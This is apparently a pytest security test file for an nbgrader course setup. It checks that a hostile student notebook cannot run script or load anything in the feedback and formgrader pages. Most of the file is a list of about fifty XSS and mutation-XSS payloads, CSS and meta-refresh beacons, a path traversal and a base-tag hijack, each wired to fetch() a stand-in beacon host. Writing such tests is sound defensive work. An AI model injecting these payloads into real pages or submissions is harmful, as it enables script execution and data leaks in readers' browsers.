"""What a hostile notebook does in the reader's browser: in the feedback and in formgrader."""

import base64
import shutil
import urllib.error

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from tests.helpers import cell, make_course

NOTEBOOK = "Batch-Normalization"
BEACON = "http://beacon.invalid"
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP8z8DAwMDAxMDAwMDAAAANHQEDasKb6QAA"
    "AABJRU5ErkJggg=="
)
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"{}>{}</svg>'
# JS stands for a call of the beacon, URL for its address.
PAYLOADS = {
    "script": "<script>JS</script>",
    "script-src": '<script src="URL"></script>',
    "script-case": "<ScRiPt\n>JS</sCrIpT >",
    "script-unclosed-tag": "<script/x>JS</script>",
    "img": '<img src="URL">',
    "img-onerror": '<img src="data:," onerror="JS">',
    "img-onerror-slash": '<img/src="data:,"/onerror="JS">',
    "svg-onload": '<svg onload="JS"></svg>',
    "svg-script": "<svg><script>JS</script></svg>",
    "svg-foreign": '<svg><foreignObject><img src="data:," onerror="JS"></foreignObject></svg>',
    "svg-animate": '<svg><a><animate attributeName="href" values="javascript:JS"/>'
    "<text y='9'>x</text></a></svg>",
    "autofocus": '<input autofocus onfocus="JS">',
    "onclick": '<b onclick="JS">click</b>',
    "onmouseover": '<b onmouseover="JS">hover</b>',
    "ontoggle": '<details open ontoggle="JS">x</details>',
    "onbegin": '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="JS">x</b>',
    "media": '<video><source onerror="JS" src="data:,"></video><audio src="data:," onerror="JS">',
    "iframe-src": '<iframe src="URL"></iframe>',
    "iframe-javascript": '<iframe src="javascript:parent.JS"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>JS</script>"></iframe>',
    "iframe-data": '<iframe src="data:text/html,<script>JS</script>"></iframe>',
    "link-javascript": '<a href="javascript:JS">x</a>',
    "link-case": '<a href=" JaVaScRiPt:JS">x</a>',
    "link-tab": '<a href="java\tscript:JS">x</a>',
    "link-entity": '<a href="&#106;avascript&colon;JS">x</a>',
    "link-vbscript": '<a href="vbscript:JS">x</a>',
    "link-data": '<a href="data:text/html,<script>JS</script>">x</a>',
    "link-out": '<a href="URL">x</a>',
    "link-markdown": "[x](javascript:JS)",
    "link-markdown-entity": "[x](&#x6A;avascript:JS)",
    "link-markdown-reference": "[x][r]\n\n[r]: javascript:JS",
    "image-markdown": '![x](URL "t")',
    "image-markdown-quote": '![x" onerror="JS](data:,)',
    "style-tag": "<style>body{background:url(URL)}</style>",
    "style-import": "<style>@import 'URL';</style>",
    "style-attribute": '<div style="background:url(URL)">x</div>',
    "style-cursor": '<div style="text-align:url(URL);cursor:url(URL),auto">x</div>',
    "link-stylesheet": '<link rel="stylesheet" href="URL">',
    "background": '<table background="URL"><tr><td background="URL">x</td></tr></table>',
    "object": '<object data="URL"></object>',
    "embed": '<embed src="URL">',
    "math": '<math><mtext><img src="data:," onerror="JS"></mtext></math>',
    "mxss-style": '<math><mtext><table><mglyph><style><img title="</style>'
    "<img src='data:,' onerror=JS>\"></style></mglyph></table></mtext></math>",
    "mxss-noscript": "<noscript><p title=\"</noscript><img src='data:,' onerror=JS>\"></noscript>",
    "mxss-comment": '<!--><img src="data:," onerror="JS">--><a title="--!><img src=x onerror=JS>">',
    "mxss-template": '<template><b id="</template><img src=x onerror=JS>"></template>',
    "mxss-textarea": "<textarea><b title=\"</textarea><img src='data:,' onerror=JS>\"></textarea>",
    "math-mixed": '$</span><img src="data:," onerror="JS">$',
    "code-mixed": '``` "><img src="data:," onerror="JS">\nx\n```',
    "mermaid": '```mermaid\n</pre><img src="data:," onerror="JS">\n```',
    "table-mixed": '|a|\n|-|\n|<img src="data:," onerror="JS">|',
    "form": '<form action="URL"><button>x</button></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=URL">',
}
# Harmless in this browser without the guard too; the last three are aimed at weaker cleaners.
STOPPED_BY_CHROMIUM = {
    *("image-markdown-quote", "link-data", "link-vbscript"),
    *("mxss-noscript", "mxss-template", "mxss-textarea"),
}
# The server's own address: what one GET of it does.
OWN = {
    "config": '<img src="/formgrader/?path=evil"><a href="/formgrader/?path=evil">x</a>',
    "traversal": '<a href="..%2f..%2f..%2fsubmitted/hostile/batchnorm/evil.html">x</a>',
    "base": f'<base href="{BEACON}/base/">',
}


def armed(payload, name):
    url = f"{BEACON}/{name}"
    return payload.replace("JS", f"fetch('{url}')").replace("URL", url)


def hostile_cells():
    """Cells with every payload in every place that is rendered; a beacon's path says which."""
    for kind, payload in PAYLOADS.items():
        yield new_markdown_cell(armed(payload, f"markdown/{kind}"))
        yield new_raw_cell(armed(payload, f"raw/{kind}"))
        yield new_code_cell(
            armed(payload, f"code/{kind}"),
            outputs=[
                shown({"text/html": armed(payload, f"html/{kind}")}),
                shown({"text/markdown": armed(payload, f"output-markdown/{kind}")}),
                shown({"text/latex": armed(payload, f"latex/{kind}")}),
                shown({"text/plain": armed(payload, f"plain/{kind}")}),
                new_output("stream", text="\x1b[31m" + armed(payload, f"stream/{kind}")),
                new_output("error", traceback=[armed(payload, f"error/{kind}")]),
            ],
        )
    script = armed("JS", "svg/script")
    svg = SVG.format(f' onload="{script}"', f"<script>{script}</script>")
    width = armed("1 onload=JS", "png-width/x").replace("'", "`")
    filenames = {"image/png": f"{BEACON}/png-filename/x"}
    html = armed(PAYLOADS["script"], "isolated/x")
    yield new_code_cell(
        "",
        metadata={"tags": [f'"><img src="{BEACON}/tag/x">'], "alt": '" onload="x'},
        outputs=[
            shown({"image/svg+xml": svg}),
            shown({"application/javascript": armed("JS", "javascript/x")}),
            shown({"text/html": html}, {"text/html": {"isolated": True}}),
            shown({"image/png": PNG}, {"image/png": {"width": width}}),
            shown({"image/png": PNG}, {"filenames": filenames}),
            shown({"image/png": f'" onerror="{armed("JS", "png-data/x")}'}),
        ],
    )
    encoded = base64.b64encode(svg.encode()).decode()
    yield new_markdown_cell(
        "![a](attachment:vector.svg) ![b](attachment:h)",
        attachments={
            "vector.svg": {"image/svg+xml": encoded},
            "h": {"text/html": f'"><img src="{BEACON}/attachment/x">'},
        },
    )
    yield from (new_markdown_cell(payload) for payload in OWN.values())


def breaking_cells():
    """Cells that end nbconvert with an error, unless they are mended before."""
    widget = {"application/vnd.jupyter.widget-view+json": {"no": "model"}}
    outputs = [shown(widget), shown({"text/html": "x"}, {"text/html": "no dict"})]
    yield new_code_cell("", outputs=outputs)
    name = 'x" onerror="y'
    yield new_markdown_cell(
        f"![a](attachment:absent) ![b](attachment:b) ![c](<attachment:{name}>)",
        attachments={"b": {}, name: {"image/png": PNG}},
    )


def shown(data, metadata=None):
    return new_output("display_data", data=data, metadata=metadata or {})


DATAFRAME = """<div><style scoped>.dataframe tbody tr th {vertical-align: top;}</style>
<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>loss</th>
</tr></thead><tbody><tr><th>0</th><td>2.302</td></tr></tbody></table></div>"""
BENIGN = [
    new_code_cell("", outputs=[shown({"text/html": DATAFRAME}), shown({"image/png": PNG})]),
    new_markdown_cell(
        "![bench](attachment:bench.png)", attachments={"bench.png": {"image/png": PNG}}
    ),
]
ANSWER = r"""Here $a<b$, \\(c & d\\), [p](https://arxiv.org/abs/1502.03167) and

$$\begin{aligned} e &< f \end{aligned}$$"""


@pytest.fixture(scope="module")
def graded(tmp_path_factory, nbgrader):
    """A copy of the course in which the hostile notebook has been graded."""
    root = make_course(tmp_path_factory.mktemp("course"), release=False)
    nbgrader(root, "generate_assignment", "batchnorm")
    for student, cells in {"hostile": hostile_cells(), "breaking": breaking_cells()}.items():
        folder = root / "submitted" / student / "batchnorm"
        shutil.copytree(root / "release" / "batchnorm", folder)
        (folder / "evil.html").write_text("<script>1</script>")
        nb = nbformat.read(folder / f"{NOTEBOOK}.ipynb", as_version=4)
        answers = [armed(payload, f"answer/{kind}") for kind, payload in PAYLOADS.items()]
        cell(nb, "batchnorm_findings").source = "\n\n".join([ANSWER, *answers])
        nb.cells += [*BENIGN, *cells]
        nbformat.write(nb, folder / f"{NOTEBOOK}.ipynb")
    nbgrader(root, "autograde", "batchnorm", "--no-execute")
    return root


@pytest.fixture(scope="module")
def pages(graded, nbgrader, shown_pages, tmp_path_factory):
    """Both pages as the course's configuration makes them."""
    nbgrader(graded, "generate_feedback", "batchnorm")
    with shown_pages(graded, tmp_path_factory.mktemp("jupyter")) as pages:
        yield pages


@pytest.mark.parametrize("page", ["feedback", "formgrader"])
def test_nothing_a_student_wrote_runs_loads_or_leads_anywhere(pages, page):
    assert pages[page].fired == set()
    assert pages[page].links == 0


SHOWN = {
    "formgrader": ["0 of 30 points from the hidden tests", "$a<b$", "$c & d$", "e &< f"],
    "feedback": ["Backward pass 0 / 30", "Here a < b , c & d ,", "e < f"],
}


@pytest.mark.parametrize("page", ["feedback", "formgrader"])
def test_tables_tex_plots_and_attachments_still_show(pages, page):
    text, images = pages[page].text, pages[page].images
    assert [each for each in SHOWN[page] if each not in text] == []
    assert "loss" in text and "2.302" in text and ".dataframe" not in text
    assert "p (https://arxiv.org/abs/1502.03167)" in text
    assert ["bench", 2] in images  # the attachment
    assert sum(width == 2 for _, width in images) >= 2  # and the plot
    assert ["a", 9] in images  # an SVG, as a picture of which nothing runs


def test_pages_handed_in_beside_the_notebook_are_not_served(pages, fetch):
    with pytest.raises(urllib.error.HTTPError, match="404"):
        fetch(pages["url"] + "evil.html")
    for name in (f"{NOTEBOOK}.ipynb", "nndl/layers.py"):
        headers, _ = fetch(pages["url"] + name)
        assert headers["Content-Type"] in ("application/octet-stream", "text/x-python")
        assert headers["X-Content-Type-Options"] == "nosniff"


def test_what_ends_nbconvert_costs_nobody_the_feedback(pages, graded):
    feedback = graded / "feedback" / "breaking" / "batchnorm" / f"{NOTEBOOK}.html"
    assert "attachment:absent is missing" in feedback.read_text()


@pytest.fixture(scope="module")
def unguarded(graded, nbgrader, shown_pages, tmp_path_factory):
    """nbgrader's own pages without the guard, to know that the beacons are live."""
    root = shutil.copytree(graded, tmp_path_factory.mktemp("unguarded") / "course")
    with (root / "nbgrader_config.py").open("a") as config:
        config.write("del c.HTMLExporter\ndel c.GenerateFeedback.exporter_class\n")
    nbgrader(root, "generate_feedback", "batchnorm", "--student=hostile")
    with shown_pages(root, root.parent) as pages:
        yield pages


@pytest.mark.parametrize("page", ["feedback", "formgrader"])
def test_without_the_guard_the_same_notebook_runs_in_the_browser(unguarded, page):
    fired = {name.rstrip("?") for name in unguarded[page].fired}
    kinds = {name.rpartition("/")[2] for name in fired}
    assert set(PAYLOADS) - kinds == STOPPED_BY_CHROMIUM
    assert fired >= {"isolated/x", "png-width/x", "png-filename/x", "base/", "evil"}
